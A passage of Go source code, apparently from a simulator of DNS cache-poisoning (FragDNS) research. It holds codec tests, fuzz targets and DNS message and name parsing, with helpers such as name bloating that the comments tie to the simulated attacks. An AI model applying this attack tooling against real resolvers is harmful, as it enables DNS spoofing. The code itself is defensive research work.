		NewSOA("vict.im", 3600, "ns1.vict.im", "hostmaster.vict.im", 2021082301),
		NewMX("vict.im", 300, 10, "mail.vict.im"),
		NewTXT("vict.im", 300, "v=spf1 ip4:30.0.0.0/24 -all"),
		NewSRV("_xmpp-server._tcp.vict.im", 300, 5, 0, 5269, "xmpp.vict.im"),
		NewNAPTR("vict.im", 300, 100, 10, "s", "x-eduroam:radius.tls", "_radsec._tcp.vict.im"),
		{Name: "vict.im.", Type: TypePTR, Class: ClassIN, TTL: 30, Data: &PTRData{Target: "host.vict.im."}},
		{Name: "vict.im.", Type: TypeIPSECKEY, Class: ClassIN, TTL: 300,
			Data: &IPSECKEYData{Precedence: 10, GatewayType: 1, Algorithm: 2, GatewayIP: v4, PublicKey: []byte{1, 2, 3, 4}}},
		{Name: "vict.im.", Type: TypeIPSECKEY, Class: ClassIN, TTL: 300,
			Data: &IPSECKEYData{Precedence: 10, GatewayType: 3, Algorithm: 2, GatewayName: "gw.vict.im.", PublicKey: []byte{9}}},
		{Name: "vict.im.", Type: TypeRRSIG, Class: ClassIN, TTL: 300,
			Data: &RRSIGData{Covered: TypeA, Signer: "vict.im.", Valid: true}},
	}
	m := &Message{ID: 1, Response: true, Questions: []Question{{Name: "vict.im.", Type: TypeANY, Class: ClassIN}}, Answers: rrs}
	out := mustPackUnpack(t, m)
	if len(out.Answers) != len(rrs) {
		t.Fatalf("got %d answers, want %d", len(out.Answers), len(rrs))
	}
	for i, rr := range out.Answers {
		if rr.Type != rrs[i].Type || !EqualNames(rr.Name, rrs[i].Name) || rr.TTL != rrs[i].TTL {
			t.Errorf("rr %d header mismatch: %v vs %v", i, rr, rrs[i])
		}
		if rr.Data.String() != rrs[i].Data.String() {
			t.Errorf("rr %d data mismatch: %q vs %q", i, rr.Data, rrs[i].Data)
		}
	}
}

func TestRRSIGValidityBitSurvives(t *testing.T) {
	for _, valid := range []bool{true, false} {
		m := &Message{ID: 1, Response: true, Answers: []*RR{{
			Name: "x.example.", Type: TypeRRSIG, Class: ClassIN, TTL: 10,
			Data: &RRSIGData{Covered: TypeTXT, Signer: "example.", Valid: valid},
		}}}
		out := mustPackUnpack(t, m)
		d := out.Answers[0].Data.(*RRSIGData)
		if d.Valid != valid || d.Covered != TypeTXT || !EqualNames(d.Signer, "example.") {
			t.Fatalf("RRSIG round trip lost validity: %+v", d)
		}
	}
}

func TestNameCompressionShrinksAndRoundTrips(t *testing.T) {
	m := &Message{ID: 9, Response: true,
		Questions: []Question{{Name: "mail.vict.im.", Type: TypeMX, Class: ClassIN}}}
	for i := 0; i < 10; i++ {
		m.Answers = append(m.Answers, NewMX("mail.vict.im", 300, uint16(i), "mx.vict.im"))
	}
	wire, err := m.Pack()
	if err != nil {
		t.Fatal(err)
	}
	// Without compression each answer would carry a 14-byte owner name;
	// with compression each is a 2-byte pointer.
	if len(wire) > 12+18+10*(2+10+2+9+3) {
		t.Fatalf("message looks uncompressed: %d bytes", len(wire))
	}
	out, err := Unpack(wire)
	if err != nil {
		t.Fatal(err)
	}
	for _, rr := range out.Answers {
		if !EqualNames(rr.Name, "mail.vict.im.") {
			t.Fatalf("decompressed name %q", rr.Name)
		}
		if !EqualNames(rr.Data.(*MXData).Host, "mx.vict.im.") {
			t.Fatalf("rdata name %q", rr.Data.(*MXData).Host)
		}
	}
}

func TestCompressionPointerLoopRejected(t *testing.T) {
	// Header + a name that is a pointer to itself.
	msg := make([]byte, 12)
	msg[5] = 1 // qdcount=1
	msg = append(msg, 0xc0, 12, 0, 1, 0, 1)
	if _, err := Unpack(msg); err == nil {
		t.Fatal("self-pointing name decoded")
	}
}

func TestTruncatedMessagesRejected(t *testing.T) {
	m := NewQuery(7, "abc.example.com.", TypeA)
	wire, _ := m.Pack()
	for n := 0; n < len(wire); n++ {
		if _, err := Unpack(wire[:n]); err == nil && n < len(wire)-0 {
			// Some prefixes may parse if counts are zeroed, but with
			// qdcount=1 any prefix shorter than the full message must fail.
			t.Fatalf("truncated message of %d/%d bytes decoded", n, len(wire))
		}
	}
}

func TestEDNSRoundTrip(t *testing.T) {
	m := NewQuery(1, "vict.im.", TypeANY)
	m.SetEDNS(4096, true)
	out := mustPackUnpack(t, m)
	sz, do, ok := out.EDNS()
	if !ok || sz != 4096 || !do {
		t.Fatalf("EDNS lost: size=%d do=%v ok=%v", sz, do, ok)
	}
	// Replacing EDNS must not duplicate the OPT RR.
	m.SetEDNS(512, false)
	if len(m.Additional) != 1 {
		t.Fatalf("SetEDNS duplicated OPT: %d additional", len(m.Additional))
	}
}

func TestCanonicalAndEqualNames(t *testing.T) {
	cases := []struct{ in, want string }{
		{"", "."}, {".", "."}, {"Vict.IM", "vict.im."}, {"vict.im.", "vict.im."},
	}
	for _, c := range cases {
		if got := CanonicalName(c.in); got != c.want {
			t.Errorf("CanonicalName(%q)=%q want %q", c.in, got, c.want)
		}
	}
	if !EqualNames("WWW.Vict.im", "www.vict.IM.") {
		t.Fatal("EqualNames failed case-insensitive match")
	}
	if EqualNames("a.vict.im", "vict.im") {
		t.Fatal("EqualNames matched different names")
	}
}

func TestBailiwick(t *testing.T) {
	if !InBailiwick("ns1.vict.im.", "vict.im.") || !InBailiwick("vict.im.", "vict.im.") {
		t.Fatal("in-bailiwick names rejected")
	}
	if InBailiwick("attacker.com.", "vict.im.") {
		t.Fatal("out-of-bailiwick name accepted")
	}
	if InBailiwick("evilvict.im.", "vict.im.") {
		t.Fatal("suffix-but-not-subdomain accepted (missing dot check)")
	}
	if !InBailiwick("anything.example.", ".") {
		t.Fatal("root bailiwick should contain everything")
	}
}

func TestParentZone(t *testing.T) {
	if ParentZone("a.b.c.") != "b.c." || ParentZone("c.") != "." || ParentZone(".") != "." {
		t.Fatalf("ParentZone wrong: %q %q %q", ParentZone("a.b.c."), ParentZone("c."), ParentZone("."))
	}
}

func Test0x20EncodingPreservesIdentityAddsEntropy(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	name := "password-recovery.vict.im."
	enc := Encode0x20(name, rng)
	if !EqualNames(enc, name) {
		t.Fatalf("0x20 changed the name: %q", enc)
	}
	if enc == name {
		t.Fatalf("0x20 produced no case change for %d-letter name (astronomically unlikely)", Entropy0x20(name))
	}
	if Entropy0x20(name) != 22 {
		t.Fatalf("entropy count = %d, want 22", Entropy0x20(name))
	}
	if Entropy0x20("123.456.") != 0 {
		t.Fatal("digits counted as entropy")
	}
}

func TestBloatName(t *testing.T) {
	b := BloatName("vict.im.")
	if len(b) < MaxNameLen-MaxLabelLen {
		t.Fatalf("bloated name only %d bytes", len(b))
	}
	if err := validateName(strings.TrimSuffix(b, ".")); err != nil {
		t.Fatalf("bloated name invalid: %v", err)
	}
	if !strings.HasSuffix(b, ".vict.im.") {
		t.Fatalf("bloat lost the original name: %q", b)
	}
	// Must survive a pack/unpack round trip.
	m := NewQuery(1, b, TypeA)
	out := mustPackUnpack(t, m)
	if !EqualNames(out.Questions[0].Name, b) {
		t.Fatal("bloated name mangled in round trip")
	}
}

func TestNameLimitsEnforced(t *testing.T) {
	long := strings.Repeat("a", 64) + ".example."
	if _, err := (&Message{Questions: []Question{{Name: long, Type: TypeA, Class: ClassIN}}}).Pack(); err == nil {
		t.Fatal("64-byte label packed")
	}
	huge := strings.Repeat("abcdefgh.", 40) + "example."
	if _, err := (&Message{Questions: []Question{{Name: huge, Type: TypeA, Class: ClassIN}}}).Pack(); err == nil {
		t.Fatal(">255-byte name packed")
	}
}

func TestUnpackFuzzNoPanics(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	base, _ := (&Message{
		ID: 1, Response: true,
		Questions: []Question{{Name: "www.vict.im.", Type: TypeA, Class: ClassIN}},
		Answers:   []*RR{NewA("www.vict.im", 300, netip.MustParseAddr("6.6.6.6"))},
	}).Pack()
	for i := 0; i < 5000; i++ {
		b := append([]byte(nil), base...)
		for j := 0; j < 1+rng.Intn(8); j++ {
			b[rng.Intn(len(b))] ^= byte(1 << rng.Intn(8))
		}
		if rng.Intn(4) == 0 {
			b = b[:rng.Intn(len(b))]
		}
		Unpack(b) // must not panic; errors are fine
	}
}

func TestMXOrderingFieldsSurvive(t *testing.T) {
	m := &Message{ID: 2, Response: true, Answers: []*RR{
		NewMX("vict.im", 300, 10, "mx1.vict.im"),
		NewMX("vict.im", 300, 20, "mx2.vict.im"),
	}}
	out := mustPackUnpack(t, m)
	a := out.Answers[0].Data.(*MXData)
	b := out.Answers[1].Data.(*MXData)
	if a.Pref != 10 || b.Pref != 20 || !EqualNames(a.Host, "mx1.vict.im.") || !EqualNames(b.Host, "mx2.vict.im.") {
		t.Fatalf("MX fields lost: %v %v", a, b)
	}
}

func TestTXTJoined(t *testing.T) {
	d := &TXTData{Strings: []string{"v=spf1 ", "-all"}}
	if d.Joined() != "v=spf1 -all" {
		t.Fatalf("Joined = %q", d.Joined())
	}
}
