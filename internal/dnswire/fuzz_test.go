package dnswire

import (
	"math/rand"
	"testing"
)

// Native fuzz targets for the wire-format parsers — the code every
// spoofed, crafted, or reassembled packet in the simulator flows
// through. Seeds come from the same generator the quick_test property
// suite uses, so the corpus starts on valid messages and the fuzzer
// mutates outward from there. CI runs a short -fuzz smoke; local runs
// can go longer:
//
//	go test -fuzz=FuzzParseMessage -fuzztime=30s ./internal/dnswire

// FuzzParseMessage: Unpack must never panic, and any message it
// accepts must re-pack and re-parse (the canonical-form property the
// FragDNS template prediction relies on).
func FuzzParseMessage(f *testing.F) {
	rng := rand.New(rand.NewSource(91))
	for i := 0; i < 24; i++ {
		if wire, err := genMessage(rng).Pack(); err == nil {
			f.Add(wire)
		}
	}
	f.Add([]byte{})
	f.Add(make([]byte, HeaderLen))
	f.Add([]byte{0, 1, 0x80, 0, 0, 1, 0, 0, 0, 0, 0, 0, 3, 'w', 'w', 'w', 0, 0, 1, 0, 1})
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := Unpack(data)
		if err != nil {
			return
		}
		wire, err := m.Pack()
		if err != nil {
			// Unpack accepted a message Pack cannot re-encode: the
			// two ends of the codec disagree about validity.
			t.Fatalf("accepted message does not re-pack: %v", err)
		}
		if _, err := Unpack(wire); err != nil {
			t.Fatalf("re-packed message does not re-parse: %v", err)
		}
	})
}

// FuzzParseName: the domain-name decoder must never panic, must keep
// its returned offset inside the buffer, and must only produce names
// the encoder accepts back (length limits included).
func FuzzParseName(f *testing.F) {
	for _, name := range []string{".", "vict.im.", "www.vict.im.", "a.b.c.vict.im.", "x.Y.Z.example."} {
		if wire, err := appendName(nil, name, nil); err == nil {
			f.Add(wire)
		}
	}
	// A compression pointer into the header area and a pointer loop.
	f.Add([]byte{0xc0, 0x00})
	f.Add([]byte{3, 'w', 'w', 'w', 0xc0, 0x00})
	f.Fuzz(func(t *testing.T, data []byte) {
		name, off, err := readName(data, 0)
		if err != nil {
			return
		}
		if off < 0 || off > len(data) {
			t.Fatalf("offset %d outside buffer of %d bytes", off, len(data))
		}
		if len(name) > MaxNameLen+1 { // +1: trailing dot of the presentation form
			t.Fatalf("decoded name of %d chars exceeds the %d limit", len(name), MaxNameLen)
		}
		if _, err := appendName(nil, name, nil); err != nil {
			t.Fatalf("decoded name %q does not re-encode: %v", name, err)
		}
	})
}
