package dnswire

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"strings"
)

// RCode is a DNS response code.
type RCode uint8

// Response codes used in this repository.
const (
	RCodeNoError  RCode = 0
	RCodeFormErr  RCode = 1
	RCodeServFail RCode = 2
	RCodeNXDomain RCode = 3
	RCodeNotImp   RCode = 4
	RCodeRefused  RCode = 5
)

func (r RCode) String() string {
	switch r {
	case RCodeNoError:
		return "NOERROR"
	case RCodeFormErr:
		return "FORMERR"
	case RCodeServFail:
		return "SERVFAIL"
	case RCodeNXDomain:
		return "NXDOMAIN"
	case RCodeNotImp:
		return "NOTIMP"
	case RCodeRefused:
		return "REFUSED"
	}
	return fmt.Sprintf("RCODE%d", uint8(r))
}

// Question is a DNS question. Name preserves the case as sent (needed
// for 0x20 verification).
type Question struct {
	Name  string
	Type  Type
	Class Class
}

func (q Question) String() string { return fmt.Sprintf("%s %s?", q.Name, q.Type) }

// Message is a DNS message.
type Message struct {
	ID                 uint16
	Response           bool // QR
	Opcode             uint8
	Authoritative      bool // AA
	Truncated          bool // TC
	RecursionDesired   bool // RD
	RecursionAvailable bool // RA
	AuthenticData      bool // AD
	CheckingDisabled   bool // CD
	RCode              RCode

	Questions  []Question
	Answers    []*RR
	Authority  []*RR
	Additional []*RR
}

// HeaderLen is the DNS fixed header length.
const HeaderLen = 12

// NewQuery builds a recursion-desired query for (name, type).
func NewQuery(id uint16, name string, t Type) *Message {
	return &Message{
		ID:               id,
		RecursionDesired: true,
		Questions:        []Question{{Name: name, Type: t, Class: ClassIN}},
	}
}

// Question returns the first question, or a zero Question if none.
func (m *Message) Question() Question {
	if len(m.Questions) == 0 {
		return Question{}
	}
	return m.Questions[0]
}

// SetEDNS attaches (or replaces) an OPT pseudo-record advertising the
// given UDP payload size.
func (m *Message) SetEDNS(udpSize uint16, do bool) {
	for _, rr := range m.Additional {
		if rr.Type == TypeOPT {
			rr.Data = &OPTData{UDPSize: udpSize, DO: do}
			return
		}
	}
	m.Additional = append(m.Additional, &RR{
		Name: ".", Type: TypeOPT, Class: Class(udpSize),
		Data: &OPTData{UDPSize: udpSize, DO: do},
	})
}

// EDNS returns the OPT record's parameters and whether one is present.
func (m *Message) EDNS() (udpSize uint16, do bool, ok bool) {
	for _, rr := range m.Additional {
		if rr.Type == TypeOPT {
			if d, isOpt := rr.Data.(*OPTData); isOpt {
				return d.UDPSize, d.DO, true
			}
			return uint16(rr.Class), false, true
		}
	}
	return 0, false, false
}

// Pack serializes the message with name compression.
func (m *Message) Pack() ([]byte, error) {
	return m.AppendPack(make([]byte, 0, 512))
}

// AppendPack serializes the message with name compression, appending
// the wire form to dst and returning the extended slice. Compression
// pointer offsets are relative to the start of the message (len(dst)
// at call time), so the bytes produced are identical to Pack's
// regardless of what dst already holds — callers reuse one scratch
// buffer across packs without changing the wire. On error the
// returned slice is nil; dst's contents past its original length are
// unspecified.
func (m *Message) AppendPack(dst []byte) ([]byte, error) {
	base := len(dst)
	msg := append(dst, make([]byte, HeaderLen)...)
	hdr := msg[base:]
	binary.BigEndian.PutUint16(hdr[0:], m.ID)
	var flags uint16
	if m.Response {
		flags |= 1 << 15
	}
	flags |= uint16(m.Opcode&0xf) << 11
	if m.Authoritative {
		flags |= 1 << 10
	}
	if m.Truncated {
		flags |= 1 << 9
	}
	if m.RecursionDesired {
		flags |= 1 << 8
	}
	if m.RecursionAvailable {
		flags |= 1 << 7
	}
	if m.AuthenticData {
		flags |= 1 << 5
	}
	if m.CheckingDisabled {
		flags |= 1 << 4
	}
	flags |= uint16(m.RCode) & 0xf
	binary.BigEndian.PutUint16(hdr[2:], flags)
	binary.BigEndian.PutUint16(hdr[4:], uint16(len(m.Questions)))
	binary.BigEndian.PutUint16(hdr[6:], uint16(len(m.Answers)))
	binary.BigEndian.PutUint16(hdr[8:], uint16(len(m.Authority)))
	binary.BigEndian.PutUint16(hdr[10:], uint16(len(m.Additional)))

	comp := compressor{base: base}
	var err error
	for _, q := range m.Questions {
		if msg, err = appendName(msg, q.Name, &comp); err != nil {
			return nil, fmt.Errorf("question %q: %w", q.Name, err)
		}
		msg = binary.BigEndian.AppendUint16(msg, uint16(q.Type))
		msg = binary.BigEndian.AppendUint16(msg, uint16(q.Class))
	}
	for _, sec := range [][]*RR{m.Answers, m.Authority, m.Additional} {
		for _, rr := range sec {
			if msg, err = appendRR(msg, rr, &comp); err != nil {
				return nil, fmt.Errorf("rr %q/%v: %w", rr.Name, rr.Type, err)
			}
		}
	}
	return msg, nil
}

func appendRR(msg []byte, rr *RR, comp *compressor) ([]byte, error) {
	var err error
	if msg, err = appendName(msg, rr.Name, comp); err != nil {
		return nil, err
	}
	msg = binary.BigEndian.AppendUint16(msg, uint16(rr.Type))
	class := uint16(rr.Class)
	ttl := rr.TTL
	if rr.Type == TypeOPT {
		if d, ok := rr.Data.(*OPTData); ok {
			class = d.UDPSize
			if d.DO {
				ttl = 1 << 15
			} else {
				ttl = 0
			}
		}
	}
	msg = binary.BigEndian.AppendUint16(msg, class)
	msg = binary.BigEndian.AppendUint32(msg, ttl)
	lenOff := len(msg)
	msg = append(msg, 0, 0)
	if rr.Data == nil {
		return nil, fmt.Errorf("dnswire: RR %s has nil data", rr.Name)
	}
	if msg, err = rr.Data.appendTo(msg); err != nil {
		return nil, err
	}
	rdlen := len(msg) - lenOff - 2
	if rdlen > 0xffff {
		return nil, fmt.Errorf("dnswire: RDATA too large: %d", rdlen)
	}
	binary.BigEndian.PutUint16(msg[lenOff:], uint16(rdlen))
	return msg, nil
}

// Unpack parses a DNS message.
func Unpack(data []byte) (*Message, error) {
	if len(data) < HeaderLen {
		return nil, fmt.Errorf("%w: header needs %d bytes, have %d", ErrTruncatedMsg, HeaderLen, len(data))
	}
	m := &Message{ID: binary.BigEndian.Uint16(data[0:])}
	flags := binary.BigEndian.Uint16(data[2:])
	m.Response = flags&(1<<15) != 0
	m.Opcode = uint8(flags >> 11 & 0xf)
	m.Authoritative = flags&(1<<10) != 0
	m.Truncated = flags&(1<<9) != 0
	m.RecursionDesired = flags&(1<<8) != 0
	m.RecursionAvailable = flags&(1<<7) != 0
	m.AuthenticData = flags&(1<<5) != 0
	m.CheckingDisabled = flags&(1<<4) != 0
	m.RCode = RCode(flags & 0xf)
	qd := int(binary.BigEndian.Uint16(data[4:]))
	an := int(binary.BigEndian.Uint16(data[6:]))
	ns := int(binary.BigEndian.Uint16(data[8:]))
	ar := int(binary.BigEndian.Uint16(data[10:]))

	off := HeaderLen
	for i := 0; i < qd; i++ {
		name, next, err := readNamePreserveCase(data, off)
		if err != nil {
			return nil, err
		}
		if next+4 > len(data) {
			return nil, fmt.Errorf("%w: question %d", ErrTruncatedMsg, i)
		}
		m.Questions = append(m.Questions, Question{
			Name:  name,
			Type:  Type(binary.BigEndian.Uint16(data[next:])),
			Class: Class(binary.BigEndian.Uint16(data[next+2:])),
		})
		off = next + 4
	}
	var err error
	if m.Answers, off, err = readRRs(data, off, an); err != nil {
		return nil, err
	}
	if m.Authority, off, err = readRRs(data, off, ns); err != nil {
		return nil, err
	}
	if m.Additional, _, err = readRRs(data, off, ar); err != nil {
		return nil, err
	}
	return m, nil
}

// readNamePreserveCase is readName but keeps the original byte case,
// which 0x20 verification depends on.
func readNamePreserveCase(msg []byte, off int) (string, int, error) {
	return readName(msg, off)
}

func readRRs(data []byte, off, n int) ([]*RR, int, error) {
	var rrs []*RR
	for i := 0; i < n; i++ {
		name, next, err := readName(data, off)
		if err != nil {
			return nil, 0, err
		}
		if next+10 > len(data) {
			return nil, 0, fmt.Errorf("%w: RR %d header", ErrTruncatedMsg, i)
		}
		typ := Type(binary.BigEndian.Uint16(data[next:]))
		class := Class(binary.BigEndian.Uint16(data[next+2:]))
		ttl := binary.BigEndian.Uint32(data[next+4:])
		rdlen := int(binary.BigEndian.Uint16(data[next+8:]))
		rdOff := next + 10
		if rdOff+rdlen > len(data) {
			return nil, 0, fmt.Errorf("%w: RR %d rdata (%d bytes at %d)", ErrTruncatedMsg, i, rdlen, rdOff)
		}
		rd := data[rdOff : rdOff+rdlen]
		rr := &RR{Name: name, Type: typ, Class: class, TTL: ttl}
		if rr.Data, err = decodeRData(typ, data, rdOff, rd); err != nil {
			return nil, 0, fmt.Errorf("RR %s/%v: %w", name, typ, err)
		}
		if typ == TypeOPT {
			rr.Data = &OPTData{UDPSize: uint16(class), DO: ttl&(1<<15) != 0}
			rr.Class = class
		}
		rrs = append(rrs, rr)
		off = rdOff + rdlen
	}
	return rrs, off, nil
}

func decodeRData(typ Type, whole []byte, rdOff int, rd []byte) (RData, error) {
	switch typ {
	case TypeA:
		if len(rd) != 4 {
			return nil, fmt.Errorf("%w: A rdata %d bytes", ErrTruncatedMsg, len(rd))
		}
		return &AData{Addr: netip.AddrFrom4([4]byte(rd))}, nil
	case TypeAAAA:
		if len(rd) != 16 {
			return nil, fmt.Errorf("%w: AAAA rdata %d bytes", ErrTruncatedMsg, len(rd))
		}
		return &AAAAData{Addr: netip.AddrFrom16([16]byte(rd))}, nil
	case TypeNS:
		h, _, err := readName(whole, rdOff)
		return &NSData{Host: h}, err
	case TypeCNAME:
		t, _, err := readName(whole, rdOff)
		return &CNAMEData{Target: t}, err
	case TypePTR:
		t, _, err := readName(whole, rdOff)
		return &PTRData{Target: t}, err
	case TypeSOA:
		m, off, err := readName(whole, rdOff)
		if err != nil {
			return nil, err
		}
		r, off, err := readName(whole, off)
		if err != nil {
			return nil, err
		}
		if off+20 > len(whole) {
			return nil, fmt.Errorf("%w: SOA numbers", ErrTruncatedMsg)
		}
		return &SOAData{
			MName: m, RName: r,
			Serial:  binary.BigEndian.Uint32(whole[off:]),
			Refresh: binary.BigEndian.Uint32(whole[off+4:]),
			Retry:   binary.BigEndian.Uint32(whole[off+8:]),
			Expire:  binary.BigEndian.Uint32(whole[off+12:]),
			Minimum: binary.BigEndian.Uint32(whole[off+16:]),
		}, nil
	case TypeMX:
		if len(rd) < 3 {
			return nil, fmt.Errorf("%w: MX rdata", ErrTruncatedMsg)
		}
		h, _, err := readName(whole, rdOff+2)
		return &MXData{Pref: binary.BigEndian.Uint16(rd), Host: h}, err
	case TypeTXT:
		var ss []string
		for i := 0; i < len(rd); {
			l := int(rd[i])
			if i+1+l > len(rd) {
				return nil, fmt.Errorf("%w: TXT string", ErrTruncatedMsg)
			}
			ss = append(ss, string(rd[i+1:i+1+l]))
			i += 1 + l
		}
		return &TXTData{Strings: ss}, nil
	case TypeSRV:
		if len(rd) < 7 {
			return nil, fmt.Errorf("%w: SRV rdata", ErrTruncatedMsg)
		}
		t, _, err := readName(whole, rdOff+6)
		return &SRVData{
			Priority: binary.BigEndian.Uint16(rd),
			Weight:   binary.BigEndian.Uint16(rd[2:]),
			Port:     binary.BigEndian.Uint16(rd[4:]),
			Target:   t,
		}, err
	case TypeNAPTR:
		if len(rd) < 5 {
			return nil, fmt.Errorf("%w: NAPTR rdata", ErrTruncatedMsg)
		}
		d := &NAPTRData{Order: binary.BigEndian.Uint16(rd), Pref: binary.BigEndian.Uint16(rd[2:])}
		i := 4
		for _, dst := range []*string{&d.Flags, &d.Service, &d.Regexp} {
			if i >= len(rd) {
				return nil, fmt.Errorf("%w: NAPTR strings", ErrTruncatedMsg)
			}
			l := int(rd[i])
			if i+1+l > len(rd) {
				return nil, fmt.Errorf("%w: NAPTR string", ErrTruncatedMsg)
			}
			*dst = string(rd[i+1 : i+1+l])
			i += 1 + l
		}
		rep, _, err := readName(whole, rdOff+i)
		d.Replacement = rep
		return d, err
	case TypeIPSECKEY:
		if len(rd) < 3 {
			return nil, fmt.Errorf("%w: IPSECKEY rdata", ErrTruncatedMsg)
		}
		d := &IPSECKEYData{Precedence: rd[0], GatewayType: rd[1], Algorithm: rd[2]}
		i := 3
		switch d.GatewayType {
		case 0:
		case 1:
			if len(rd) < i+4 {
				return nil, fmt.Errorf("%w: IPSECKEY gateway", ErrTruncatedMsg)
			}
			d.GatewayIP = netip.AddrFrom4([4]byte(rd[i : i+4]))
			i += 4
		case 3:
			name, off, err := readName(whole, rdOff+i)
			if err != nil {
				return nil, err
			}
			if off > rdOff+len(rd) {
				return nil, fmt.Errorf("%w: IPSECKEY gateway name overruns rdata", ErrTruncatedMsg)
			}
			d.GatewayName = name
			i = off - rdOff
		default:
			return &RawData{Bytes: append([]byte(nil), rd...)}, nil
		}
		d.PublicKey = append([]byte(nil), rd[i:]...)
		return d, nil
	case TypeRRSIG:
		if len(rd) < 19 {
			return nil, fmt.Errorf("%w: RRSIG rdata", ErrTruncatedMsg)
		}
		d := &RRSIGData{Covered: Type(binary.BigEndian.Uint16(rd)), Valid: rd[4] == 1}
		signer, off, err := readName(whole, rdOff+20)
		if err != nil {
			return nil, err
		}
		if off > rdOff+len(rd) {
			return nil, fmt.Errorf("%w: RRSIG signer name overruns rdata", ErrTruncatedMsg)
		}
		d.Signer = signer
		d.Signature = append([]byte(nil), whole[off:rdOff+len(rd)]...)
		return d, nil
	default:
		return &RawData{Bytes: append([]byte(nil), rd...)}, nil
	}
}

// String renders a dig-style summary, used by the example programs.
func (m *Message) String() string {
	var sb strings.Builder
	kind := "query"
	if m.Response {
		kind = "response"
	}
	fmt.Fprintf(&sb, ";; %s id=%d rcode=%s aa=%v tc=%v\n", kind, m.ID, m.RCode, m.Authoritative, m.Truncated)
	for _, q := range m.Questions {
		fmt.Fprintf(&sb, ";; question: %s\n", q)
	}
	for _, rr := range m.Answers {
		fmt.Fprintf(&sb, "answer: %s\n", rr)
	}
	for _, rr := range m.Authority {
		fmt.Fprintf(&sb, "authority: %s\n", rr)
	}
	for _, rr := range m.Additional {
		fmt.Fprintf(&sb, "additional: %s\n", rr)
	}
	return sb.String()
}
