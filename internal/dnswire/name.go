// Package dnswire implements the DNS wire format (RFC 1035 and
// friends): message header and flags, domain-name encoding with
// compression, and the resource-record types the paper's attacks
// inject or downgrade (A, AAAA, NS, CNAME, SOA, PTR, MX, TXT, SRV,
// NAPTR, IPSECKEY, OPT/EDNS0 and a lightweight RRSIG presence marker).
// It also provides the 0x20 query-name encoding used as an
// anti-spoofing defence.
package dnswire

import (
	"bytes"
	"errors"
	"fmt"
	"math/rand"
	"strings"
)

// Name-length limits from RFC 1035 §2.3.4.
const (
	MaxLabelLen = 63
	MaxNameLen  = 255
)

var (
	// ErrTruncatedMsg is returned when a message ends mid-field.
	ErrTruncatedMsg = errors.New("dnswire: truncated message")
	// ErrBadName is returned for malformed domain names.
	ErrBadName = errors.New("dnswire: bad name")
	// ErrCompressionLoop is returned when compression pointers cycle.
	ErrCompressionLoop = errors.New("dnswire: compression pointer loop")
)

// CanonicalName lowercases a domain name and ensures it ends with a
// single trailing dot; the empty string canonicalises to "." (root).
// Already-canonical input is returned as-is without allocating — the
// common case on the resolver's retry and cache paths, where the same
// canonical name is re-examined every round trip.
func CanonicalName(s string) string {
	if len(s) > 0 && s[len(s)-1] == '.' {
		canonical := true
		for i := 0; i < len(s); i++ {
			if c := s[i]; (c >= 'A' && c <= 'Z') || c >= 0x80 {
				canonical = false // upper ASCII or possible non-ASCII case
				break
			}
		}
		if canonical {
			return s
		}
	}
	s = strings.ToLower(strings.TrimSuffix(s, "."))
	if s == "" {
		return "."
	}
	return s + "."
}

// EqualNames compares two domain names case-insensitively, ignoring a
// trailing dot — the comparison resolvers use when matching answers to
// questions.
func EqualNames(a, b string) bool { return CanonicalName(a) == CanonicalName(b) }

// ParentZone returns the name with its leftmost label removed
// ("a.b.example.com." -> "b.example.com."). The parent of the root is
// the root itself.
func ParentZone(name string) string {
	name = CanonicalName(name)
	if name == "." {
		return "."
	}
	i := strings.IndexByte(name, '.')
	rest := name[i+1:]
	if rest == "" {
		return "."
	}
	return rest
}

// InBailiwick reports whether name equals zone or is a subdomain of
// zone — the check resolvers apply before caching records from a
// referral (the defence FragDNS must respect when choosing what to
// inject).
func InBailiwick(name, zone string) bool {
	name, zone = CanonicalName(name), CanonicalName(zone)
	if zone == "." {
		return true
	}
	return name == zone || strings.HasSuffix(name, "."+zone)
}

// CountLabels returns the number of labels in a canonical name (root
// has zero).
func CountLabels(name string) int {
	name = CanonicalName(name)
	if name == "." {
		return 0
	}
	return strings.Count(name, ".")
}

// validateName checks the label-structure and length limits of a name
// whose single trailing dot has already been trimmed, preserving the
// exact errors splitLabels historically produced. It allocates only
// when building an error.
func validateName(s string) error {
	for i := 0; i < len(s); {
		j := strings.IndexByte(s[i:], '.')
		l := j
		if j < 0 {
			l = len(s) - i
		}
		if l == 0 {
			return fmt.Errorf("%w: empty label in %q", ErrBadName, s+".")
		}
		if l > MaxLabelLen {
			return fmt.Errorf("%w: label %q exceeds %d bytes", ErrBadName, s[i:i+l], MaxLabelLen)
		}
		i += l + 1
	}
	// A dot left at the end after the trim is an empty final label the
	// loop above cannot see (it stops at len(s)).
	if strings.HasSuffix(s, ".") {
		return fmt.Errorf("%w: empty label in %q", ErrBadName, s+".")
	}
	// Wire length is len(s)+1 (each separating dot becomes a length
	// byte, plus one leading length byte) plus the root terminator.
	if len(s)+2 > MaxNameLen {
		return fmt.Errorf("%w: name %q exceeds %d bytes", ErrBadName, s+".", MaxNameLen)
	}
	return nil
}

// compressor tracks previously written names for RFC 1035 §4.1.4
// message compression. Instead of a map of suffix strings (which costs
// two string allocations per label), it records message-relative
// offsets of written names and compares candidates against the wire
// itself, following compression pointers. base is where the DNS
// message starts in the (possibly shared) output buffer, so packing
// into a caller-owned arena produces the same pointer offsets as
// packing from offset zero.
type compressor struct {
	base int
	n    int
	offs [48]uint16
	more []uint16
}

func (c *compressor) record(msgLen int) {
	rel := msgLen - c.base
	if rel >= 0x3fff {
		return // beyond the 14-bit pointer range: stored uncompressed
	}
	if c.n < len(c.offs) {
		c.offs[c.n] = uint16(rel)
	} else {
		c.more = append(c.more, uint16(rel))
	}
	c.n++
}

// lookup returns the message-relative offset of a previously recorded
// name equal (case-insensitively) to suffix, which is in presentation
// form without a trailing dot.
func (c *compressor) lookup(msg []byte, suffix string) (int, bool) {
	for i := 0; i < c.n; i++ {
		var rel int
		if i < len(c.offs) {
			rel = int(c.offs[i])
		} else {
			rel = int(c.more[i-len(c.offs)])
		}
		if nameAtEquals(msg, c.base, c.base+rel, suffix) {
			return rel, true
		}
	}
	return 0, false
}

func lowerByte(b byte) byte {
	if b >= 'A' && b <= 'Z' {
		return b + 'a' - 'A'
	}
	return b
}

// nameAtEquals reports whether the wire name starting at absolute
// offset off in msg equals s (presentation form, no trailing dot),
// case-insensitively. It follows compression pointers (which are
